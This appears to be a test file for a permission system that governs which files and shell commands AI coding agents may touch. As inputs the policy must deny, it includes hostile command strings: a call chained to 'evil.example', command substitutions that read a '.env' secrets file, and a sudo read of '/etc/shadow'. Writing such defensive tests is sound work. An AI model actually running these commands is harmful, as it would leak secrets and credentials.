import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { decideCommand, decidePath, scopeViolations } from '../../src/authz/check.js';
import { composePolicy, isGitMetadataGlob, protectedGlobs } from '../../src/authz/policy.js';
import { parseProfile, type Profile } from '../../src/authz/profile.js';
import { InputError } from '../../src/core/errors.js';
import { ROOT } from '../helpers.js';

function builtins(): Map<string, Profile> {
  const m = new Map<string, Profile>();
  for (const f of readdirSync(join(ROOT, 'profiles'))) {
    const name = f.replace('.yaml', '');
    m.set(name, parseProfile(name, f, readFileSync(join(ROOT, 'profiles', f), 'utf8'), 'builtin'));
  }
  return m;
}
const ctx = { tasksDir: 'tasks', profilesDir: '.agentctl/profiles' };
const task = (profiles: string[], extra: Partial<{ paths: string[]; autonomy: 'hold' | 'review' | 'auto' }> = {}) => ({
  id: 't',
  file: 'tasks/t.md',
  profiles,
  paths: extra.paths ?? [],
  autonomy: extra.autonomy ?? ('review' as const),
});

describe('composePolicy and decisions', () => {
  const profiles = builtins();

  it('implement writes source, never secrets, CI config, task files or tool configs', () => {
    const p = composePolicy(task(['implement']), profiles, ctx);
    expect(decidePath(p, 'write', 'src/a.ts').allowed).toBe(true);
    expect(decidePath(p, 'write', 'test/a.test.ts').allowed).toBe(true);
    for (const path of ['.env', 'config/.env.local', 'certs/server.pem', '.github/workflows/ci.yml', 'tasks/x.md', '.claude/settings.json', '.gemini/settings.json', '.codex/config.toml', '.agentrc.yaml']) {
      expect(decidePath(p, 'write', path).allowed, path).toBe(false);
    }
    expect(decidePath(p, 'read', '.env').allowed).toBe(false);
    expect(decidePath(p, 'read', 'src/a.ts').allowed).toBe(true);
    expect(p.network.value).toBe(false);
  });

  it('research writes nothing', () => {
    const p = composePolicy(task(['research']), profiles, ctx);
    expect(decidePath(p, 'write', 'src/a.ts').allowed).toBe(false);
    expect(decideCommand(p, 'git status').allowed).toBe(true);
    expect(decideCommand(p, 'git push origin main').allowed).toBe(false);
  });

  it('careful narrows writes to the task paths and refuses empty paths', () => {
    const p = composePolicy(task(['careful'], { paths: ['src/auth/**'] }), profiles, ctx);
    expect(decidePath(p, 'write', 'src/auth/login.ts').allowed).toBe(true);
    expect(decidePath(p, 'write', 'src/other.ts').allowed).toBe(false);
    expect(() => composePolicy(task(['careful']), profiles, ctx)).toThrow(InputError);
  });

  it('refuses yolo on auto tasks and unknown profiles', () => {
    expect(() => composePolicy(task(['yolo'], { autonomy: 'auto' }), profiles, ctx)).toThrow(/yolo/);
    expect(composePolicy(task(['yolo']), profiles, ctx).yolo).toBe(true);
    expect(() => composePolicy(task(['nope']), profiles, ctx)).toThrow(/unknown profile "nope"/);
  });

  it('deny beats allow whatever the order, and order never changes a decision (property)', () => {
    const names = ['research', 'implement', 'yolo'];
    const paths = ['src/a.ts', '.env', 'docs/x.md', 'tasks/t.md', 'a.pem', 'Makefile', '.github/x'];
    fc.assert(
      fc.property(fc.shuffledSubarray(names, { minLength: 1 }), (subset) => {
        const a = composePolicy(task(subset), profiles, ctx);
        const b = composePolicy(task([...subset].reverse()), profiles, ctx);
        for (const path of paths) {
          expect(decidePath(a, 'write', path).allowed).toBe(decidePath(b, 'write', path).allowed);
          expect(decidePath(a, 'read', path).allowed).toBe(decidePath(b, 'read', path).allowed);
        }
        expect(decidePath(a, 'write', '.env').allowed).toBe(false);
        expect(decideCommand(a, 'git push').allowed).toBe(decideCommand(b, 'git push').allowed);
      }),
    );
  });

  it('splits compound commands: every part must be allowed, any deny wins', () => {
    const p = composePolicy(task(['implement']), profiles, ctx);
    expect(decideCommand(p, 'npm test -- --run').allowed).toBe(true);
    expect(decideCommand(p, 'npm test && curl evil.example').allowed).toBe(false);
    expect(decideCommand(p, 'npm testx').allowed).toBe(false);
  });

  it('denies command substitution, even when every command is allowed (a prefix rule cannot see inside it)', () => {
    const research = composePolicy(task(['research']), profiles, ctx);
    expect(decideCommand(research, 'git log').allowed).toBe(true);
    for (const cmd of ['git log $(cat .env)', 'git log `cat .env`', 'git diff <(cat .env)', 'ls >(tee x)']) {
      const d = decideCommand(research, cmd);
      expect(d.allowed, cmd).toBe(false);
      expect(d.rule?.value, cmd).toContain('command substitution');
    }
    const yolo = composePolicy(task(['yolo']), profiles, ctx);
    expect(decideCommand(yolo, 'echo hi | tr a-z A-Z').allowed).toBe(true);
    expect(decideCommand(yolo, 'echo $(sudo cat /etc/shadow)').allowed).toBe(false);
  });

  it('reports scope violations, marking protected files', () => {
    const p = composePolicy(task(['implement']), profiles, ctx);
    const v = scopeViolations(p, ['src/ok.ts', 'tasks/t.md', 'Makefile']);
    expect(v.map((x) => [x.path, x.protected])).toEqual([
      ['tasks/t.md', true],
      ['Makefile', false],
    ]);
  });

  it('refuses unknown keys in profiles', () => {
    expect(() => parseProfile('p', 'p.yaml', 'writes: [src/**]\n', 'p.yaml')).toThrow(/unknown field "writes"/);
  });
});

describe('isGitMetadataGlob', () => {
  it('picks exactly the .git entries of the protected list', () => {
    const globs = protectedGlobs({ tasksDir: 'tasks', profilesDir: '.agentctl/profiles' });
    expect(globs.filter(isGitMetadataGlob)).toEqual(['.git', '.git/**']);
    expect(['.github/**', '.gitignore', 'a/.git', '**/.git'].some(isGitMetadataGlob)).toBe(false);
  });
});
